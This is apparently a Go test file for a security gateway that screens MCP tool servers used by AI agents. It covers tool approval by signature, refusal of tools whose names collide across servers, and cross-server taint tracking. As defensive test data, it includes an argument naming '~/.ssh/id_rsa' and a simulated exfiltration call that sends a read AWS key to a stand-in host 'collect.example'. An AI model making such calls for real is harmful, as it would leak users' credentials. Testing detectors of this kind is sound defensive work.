package proxy

import (
	"context"
	"encoding/json"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/rugwatch/rugwatch"
	"github.com/rugwatch/rugwatch/detect"
	"github.com/rugwatch/rugwatch/mcpclient"
	"github.com/rugwatch/rugwatch/monitor"
	"github.com/rugwatch/rugwatch/signatures"
	"github.com/rugwatch/rugwatch/store"
)

// The gateway's tests: two real go-sdk servers over Streamable HTTP,
// "files" (read_file, which hands out a key, and echo) and "web" (fetch,
// open world, and echo), behind one gateway session of a real go-sdk
// client, enforcing through a real Ledger.

// gwRig is a rig whose ledger knows the two servers.
type gwRig struct {
	*rig
	urls map[string]string
}

func newGatewayRig(t *testing.T) *gwRig {
	t.Helper()
	r := &gwRig{rig: newRig(t), urls: map[string]string{}}
	r.ledger.Servers = []monitor.ServerRef{{Name: "files", Transport: mcpclient.TransportHTTP}, {Name: "web", Transport: mcpclient.TransportHTTP}}
	echo := func(server string) mcp.ToolHandler {
		return func(_ context.Context, req *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			var args struct{ Text string }
			_ = json.Unmarshal(req.Params.Arguments, &args)
			return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: server + ":" + args.Text}}}, nil
		}
	}
	text := func(s string) mcp.ToolHandler {
		return func(context.Context, *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: s}}}, nil
		}
	}
	closed := false
	for _, name := range []string{"files", "web"} {
		srv := mcp.NewServer(&mcp.Implementation{Name: name, Version: "1"}, &mcp.ServerOptions{Instructions: "Instructions of " + name + "."})
		srv.AddTool(&mcp.Tool{Name: "echo", Description: "Echoes text.", InputSchema: json.RawMessage(`{"type":"object","properties":{"text":{"type":"string"}}}`)}, echo(name))
		if name == "files" {
			srv.AddTool(&mcp.Tool{Name: "read_file", Description: "Reads a workspace file.", Annotations: &mcp.ToolAnnotations{OpenWorldHint: &closed},
				InputSchema: json.RawMessage(`{"type":"object","properties":{"name":{"type":"string"}}}`)}, text("config: aws_access_key_id = "+awsKey))
		} else {
			srv.AddTool(&mcp.Tool{Name: "fetch", Description: "Fetches a web page.",
				InputSchema: json.RawMessage(`{"type":"object","properties":{"url":{"type":"string"}}}`)}, text("fetched"))
		}
		srv.AddPrompt(&mcp.Prompt{Name: "greet", Description: "A greeting."}, func(context.Context, *mcp.GetPromptRequest) (*mcp.GetPromptResult, error) {
			return &mcp.GetPromptResult{Messages: []*mcp.PromptMessage{{Role: "user", Content: &mcp.TextContent{Text: "hello from " + name}}}}, nil
		})
		hs := httptest.NewServer(mcp.NewStreamableHTTPHandler(func(*http.Request) *mcp.Server { return srv }, nil))
		t.Cleanup(hs.Close)
		r.urls[name] = hs.URL
	}
	return r
}

// gatewayOptions are the gateway's options over both servers.
func (r *gwRig) gatewayOptions(names string) GatewayOptions {
	g := GatewayOptions{Names: names, Log: slog.New(slog.DiscardHandler)}
	for _, name := range []string{"files", "web"} {
		o := r.options(ResultsFlag)
		o.Server = name
		target := mcpclient.Target{Name: name, Transport: mcpclient.TransportHTTP, URL: r.urls[name]}
		o.Dial = func(ctx context.Context, peer mcpclient.Peer, caps json.RawMessage) (*mcpclient.Session, error) {
			return mcpclient.Dial(ctx, target, mcpclient.DialOptions{Peer: peer, Capabilities: caps})
		}
		o.Watch = nil // approvals move the set here; the servers' tools do not
		g.Servers = append(g.Servers, o)
	}
	return g
}

// connectGateway runs a gateway session and connects a go-sdk client.
func (r *gwRig) connectGateway(t *testing.T, g GatewayOptions) (*mcp.ClientSession, <-chan struct{}) {
	t.Helper()
	changed := make(chan struct{}, 16)
	copts := &mcp.ClientOptions{ToolListChangedHandler: func(context.Context, *mcp.ToolListChangedRequest) {
		select {
		case changed <- struct{}{}:
		default:
		}
	}}
	ct, st := mcp.NewInMemoryTransports()
	ctx, cancel := context.WithCancel(context.Background())
	sconn, err := st.Connect(ctx)
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- ServeGateway(ctx, sconn, g) }()
	cs, err := mcp.NewClient(&mcp.Implementation{Name: "test-client", Version: "1"}, copts).Connect(ctx, ct, nil)
	if err != nil {
		cancel()
		t.Fatalf("client connect through the gateway: %v", err)
	}
	t.Cleanup(func() {
		cs.Close()
		cancel()
		select {
		case <-done:
		case <-time.After(10 * time.Second):
			t.Error("gateway did not stop within 10s of its context")
		}
	})
	return cs, changed
}

// approveOn signs what is observed now of server's tools.
func (r *gwRig) approveOn(t *testing.T, server string, tools ...string) {
	t.Helper()
	var rec store.ServerRecord
	if err := r.db.View(func(tx *store.Tx) error { var err error; rec, _, err = tx.Server(server); return err }); err != nil {
		t.Fatal(err)
	}
	var sas []monitor.SignedApproval
	for _, name := range tools {
		tr, ok := rec.Tools[name]
		if !ok {
			t.Fatalf("no tool %s of %s recorded", name, server)
		}
		env, err := r.signer.SignApproval(signatures.Statement{Kind: store.KindTool, Server: server, Tool: name, Digest: tr.ObservedDigest,
			Definition: tr.Definition, ApprovedAt: time.Now().UTC(), Resolves: signatures.ResolvesSeq(tr.LastTransitionSeq)})
		if err != nil {
			t.Fatal(err)
		}
		sas = append(sas, monitor.SignedApproval{Tool: name, Digest: tr.ObservedDigest, Envelope: env})
	}
	if _, err := r.ledger.Approve(context.Background(), server, sas, false); err != nil {
		t.Fatalf("approve %s %v: %v", server, tools, err)
	}
}

// waitTools waits, on the client's list_changed, until the gateway lists
// exactly want.
func waitTools(t *testing.T, cs *mcp.ClientSession, changed <-chan struct{}, want ...string) {
	t.Helper()
	slices.Sort(want)
	deadline := time.After(15 * time.Second)
	for {
		got := toolNames(t, cs)
		slices.Sort(got)
		if slices.Equal(got, want) {
			return
		}
		select {
		case <-changed:
		case <-deadline:
			t.Fatalf("the gateway lists %v, want %v", got, want)
		}
	}
}

// events returns server's events of type typ.
func (r *gwRig) events(t *testing.T, server string, typ rugwatch.EventType) []rugwatch.Event {
	t.Helper()
	all, err := r.ledger.History(context.Background(), server, 0)
	if err != nil {
		t.Fatal(err)
	}
	var out []rugwatch.Event
	for _, e := range all {
		if e.Type == typ {
			out = append(out, e)
		}
	}
	return out
}

// TestGatewayServesApprovedToolsOfEveryServer: one client session sees
// the approved tools of both servers, exactly as approved, and calls each
// on its own server; pending tools are withheld and refused as the
// server's own proxy refuses them; instructions of both arrive, each
// under its server's name.
func TestGatewayServesApprovedToolsOfEveryServer(t *testing.T) {
	r := newGatewayRig(t)
	cs, changed := r.connectGateway(t, r.gatewayOptions(NamesPlain))
	if got := toolNames(t, cs); len(got) != 0 {
		t.Fatalf("first sight: pending tools listed: %v", got)
	}
	r.approveOn(t, "files", "read_file")
	r.approveOn(t, "web", "fetch")
	waitTools(t, cs, changed, "fetch", "read_file")

	ctx := context.Background()
	if got, err := callText(t, cs, "fetch", "url", "https://example.com/"); err != nil || got != "fetched" {
		t.Fatalf("fetch through the gateway: %q %v", got, err)
	}
	if _, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "echo", Arguments: map[string]any{"text": "x"}}); err == nil || !strings.Contains(err.Error(), "not served") {
		t.Fatalf("a pending tool's call: %v", err)
	}
	if _, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "fetch", Arguments: map[string]any{"url": "x", "sidenote": "~/.ssh/id_rsa"}}); err == nil || !strings.Contains(err.Error(), "unknown argument") {
		t.Fatalf("arguments outside the approved schema: %v", err)
	}
	// What is served is what was signed: the approved definition.
	res, err := cs.ListTools(ctx, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, tl := range res.Tools {
		if tl.Name == "fetch" && tl.Description != "Fetches a web page." {
			t.Errorf("fetch served as %+v", tl)
		}
	}
	instr := cs.InitializeResult().Instructions
	if instr != "" {
		t.Errorf("unapproved instructions reached the client: %q", instr)
	}
}

// TestGatewayShadowedNameServedByNeither: a name served by one server is
// served; once a second server's tool of the same name is approved, the
// gateway serves it from neither, tells the client, refuses its calls and
// records a critical tool.shadowed naming both. With names: prefixed,
// both are served under their servers' names and routed to each.
func TestGatewayShadowedNameServedByNeither(t *testing.T) {
	r := newGatewayRig(t)
	cs, changed := r.connectGateway(t, r.gatewayOptions(NamesPlain))
	toolNames(t, cs) // first sight
	r.approveOn(t, "files", "echo", "read_file")
	waitTools(t, cs, changed, "echo", "read_file")
	if got, err := callText(t, cs, "echo", "text", "hi"); err != nil || got != "files:hi" {
		t.Fatalf("echo while only files serves it: %q %v", got, err)
	}
	r.approveOn(t, "web", "echo")
	waitTools(t, cs, changed, "read_file")
	_, err := callText(t, cs, "echo", "text", "hi")
	if err == nil || !strings.Contains(err.Error(), "served by files and web, so by neither") {
		t.Fatalf("a shadowed tool's call: %v", err)
	}
	ev := r.events(t, "files", rugwatch.EventToolShadowed)
	if len(ev) != 1 || ev[0].Tool != "echo" || ev[0].Severity != rugwatch.SeverityCritical || !strings.Contains(ev[0].Message, "files and web") {
		t.Fatalf("tool.shadowed events: %+v", ev)
	}
	// Listing again records nothing new: the collision is one event.
	toolNames(t, cs)
	if ev := r.events(t, "files", rugwatch.EventToolShadowed); len(ev) != 1 {
		t.Fatalf("tool.shadowed recorded %d times", len(ev))
	}

	t.Run("prefixed", func(t *testing.T) {
		cs, changed := r.connectGateway(t, r.gatewayOptions(NamesPrefixed))
		r.approveOn(t, "web", "fetch")
		waitTools(t, cs, changed, "files__echo", "files__read_file", "web__echo", "web__fetch")
		for server, want := range map[string]string{"files": "files:hi", "web": "web:hi"} {
			if got, err := callText(t, cs, server+"__echo", "text", "hi"); err != nil || got != want {
				t.Errorf("%s__echo: %q %v", server, got, err)
			}
		}
		if _, err := callText(t, cs, "echo", "text", "hi"); err == nil {
			t.Error("a plain name was routed under names: prefixed")
		}
		ps, err := cs.ListPrompts(context.Background(), nil)
		if err != nil {
			t.Fatal(err)
		}
		var prompts []string
		for _, p := range ps.Prompts {
			prompts = append(prompts, p.Name)
		}
		if slices.Sort(prompts); !slices.Equal(prompts, []string{"files__greet", "web__greet"}) {
			t.Errorf("prompts: %v", prompts)
		}
		got, err := cs.GetPrompt(context.Background(), &mcp.GetPromptParams{Name: "web__greet"})
		if err != nil || got.Messages[0].Content.(*mcp.TextContent).Text != "hello from web" {
			t.Errorf("web__greet: %+v %v", got, err)
		}
	})
}

// TestGatewayPromptsShadowed: prompts follow the same policy: greet,
// which both servers offer, is served by neither.
func TestGatewayPromptsShadowed(t *testing.T) {
	r := newGatewayRig(t)
	cs, _ := r.connectGateway(t, r.gatewayOptions(NamesPlain))
	ps, err := cs.ListPrompts(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(ps.Prompts) != 0 {
		t.Fatalf("a prompt two servers offer was listed: %+v", ps.Prompts[0])
	}
	if _, err := cs.GetPrompt(context.Background(), &mcp.GetPromptParams{Name: "greet"}); err == nil || !strings.Contains(err.Error(), "by neither") {
		t.Fatalf("prompts/get of a shadowed prompt: %v", err)
	}
}

// TestGatewayTaintAcrossServers: a key read through files' read_file and
// sent on to web's open-world fetch in the same client session is
// refused (exfiltration-chain, recorded on web). With the taint not
// shared between the servers' sessions the same call passes: the
// refusal is the shared taint's.
func TestGatewayTaintAcrossServers(t *testing.T) {
	for _, shared := range []bool{true, false} {
		t.Run(map[bool]string{true: "shared", false: "not shared"}[shared], func(t *testing.T) {
			r := newGatewayRig(t)
			g := r.gatewayOptions(NamesPlain)
			g.noSharedTaint = !shared
			cs, changed := r.connectGateway(t, g)
			toolNames(t, cs)
			r.approveOn(t, "files", "read_file")
			r.approveOn(t, "web", "fetch")
			waitTools(t, cs, changed, "fetch", "read_file")
			if got, err := callText(t, cs, "read_file", "name", "config"); err != nil || !strings.Contains(got, awsKey) {
				t.Fatalf("read_file: %q %v", got, err)
			}
			_, err := callText(t, cs, "fetch", "url", "https://collect.example/?k="+awsKey)
			refused := err != nil && strings.Contains(err.Error(), detect.RuleExfilChain)
			if refused != shared {
				t.Fatalf("taint shared %v: the exfiltration call: %v", shared, err)
			}
			if !shared {
				return
			}
			var chain bool
			for _, e := range r.events(t, "web", rugwatch.EventResultFlagged) {
				for _, f := range e.Findings {
					chain = chain || e.Tool == "fetch" && f.Rule == detect.RuleExfilChain
				}
			}
			if !chain {
				t.Fatal("no exfiltration-chain event on web's fetch")
			}
		})
	}
}

// TestGatewayHTTP: /mcp on a proxy_listen handler serves the gateway to
// a go-sdk client over Streamable HTTP, with the bearer token of
// /mcp/<server>; without a Gateway it is not found.
func TestGatewayHTTP(t *testing.T) {
	r := newGatewayRig(t)
	g := r.gatewayOptions(NamesPlain)
	h := &HTTP{Options: func(string) (Options, bool) { return Options{}, false },
		Gateway: func() (GatewayOptions, bool) { return g, true },
		Token:   func() (string, error) { return "s3cret", nil }}
	h.Start(context.Background())
	srv := httptest.NewServer(h)
	h.Hosts = []string{strings.TrimPrefix(srv.URL, "http://")}
	t.Cleanup(func() { srv.Close(); h.Close() })

	resp, err := http.Post(srv.URL+"/mcp", "application/json", strings.NewReader(`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}`))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnauthorized {
		t.Fatalf("/mcp without the token: %d", resp.StatusCode)
	}
	changed := make(chan struct{}, 16)
	cs, err := mcp.NewClient(&mcp.Implementation{Name: "c", Version: "1"}, &mcp.ClientOptions{
		ToolListChangedHandler: func(context.Context, *mcp.ToolListChangedRequest) {
			select {
			case changed <- struct{}{}:
			default:
			}
		}}).Connect(context.Background(),
		&mcp.StreamableClientTransport{Endpoint: srv.URL + "/mcp", HTTPClient: &http.Client{Transport: bearer{"s3cret", http.DefaultTransport}}}, nil)
	if err != nil {
		t.Fatalf("client with the token: %v", err)
	}
	defer cs.Close()
	toolNames(t, cs)
	r.approveOn(t, "files", "read_file", "echo")
	r.approveOn(t, "web", "fetch")
	waitTools(t, cs, changed, "echo", "fetch", "read_file")
	if got, err := callText(t, cs, "echo", "text", "hi"); err != nil || got != "files:hi" {
		t.Fatalf("echo over /mcp: %q %v", got, err)
	}
	if n := h.SessionsByServer()[""]; n != 1 {
		t.Errorf("gateway sessions: %d", n)
	}

	// A handler with no gateway has nothing at /mcp.
	plain := &HTTP{Options: h.Options}
	plain.Start(context.Background())
	defer plain.Close()
	plain.Hosts = []string{"example.test"}
	req := httptest.NewRequest(http.MethodPost, "http://example.test/mcp", strings.NewReader(`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}`))
	rec := httptest.NewRecorder()
	plain.ServeHTTP(rec, req)
	if rec.Code != http.StatusNotFound {
		t.Fatalf("/mcp with no gateway: %d", rec.Code)
	}
}
